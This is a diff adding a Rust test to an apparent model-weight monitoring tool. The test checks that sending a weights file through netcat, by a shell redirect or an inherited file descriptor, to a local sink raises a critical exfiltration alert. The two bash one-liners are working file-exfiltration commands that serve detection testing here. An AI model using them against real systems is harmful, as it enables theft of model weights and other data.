@@ -104,6 +104,37 @@ fn cat_piped_to_an_upload_raises_exfiltration() {
     assert!(chain.contains(&"bash"), "{chain:?}");
 }
 
+/// The ways around `cat model | curl` that the kernel side used to miss: the shell opens
+/// the file and the sender reads it from stdin (a redirect), or a child reads a descriptor
+/// its parent opened. Each is exfiltration, named after the process that read.
+#[test]
+fn a_redirect_or_an_inherited_descriptor_into_nc_is_exfiltration() {
+    let dir = TempDir::new("exfil-nc");
+    let model = dir.path().join("model.safetensors");
+    let size = 2 * 1024 * 1024 + 333;
+    write_safetensors(&model, size);
+    let mut agent = Agent::watching(&[dir.path()], &[]);
+    for script in [
+        "nc -N 127.0.0.1 {port} < {model}; true",
+        "exec 3< {model}; cat <&3 | nc -N 127.0.0.1 {port}",
+    ] {
+        let (port, sink) = llmwatch_e2e::tcp_sink();
+        let script = script
+            .replace("{port}", &port.to_string())
+            .replace("{model}", model.to_str().unwrap());
+        let status = Command::new("bash").arg("-c").arg(&script).status().unwrap();
+        assert!(status.success(), "{script}");
+        assert_eq!(sink.join().unwrap(), size as u64);
+        let a = agent
+            .wait_for(secs(10), |v| alert("weight.exfiltration")(v) && v["network"][0]["port"] == port)
+            .unwrap_or_else(|| panic!("no weight.exfiltration for {script}"));
+        assert_eq!(a["severity"], "critical");
+        assert_eq!(a["files"][0]["path"], model.to_str().unwrap());
+        let comm = a["process"]["comm"].as_str().unwrap();
+        assert!(comm == "nc" || comm == "cat", "{script}: named {comm}");
+    }
+}
+
 #[test]
 fn cp_at_an_off_hours_time_raises_off_hours_access() {
     let dir = TempDir::new("offhours");
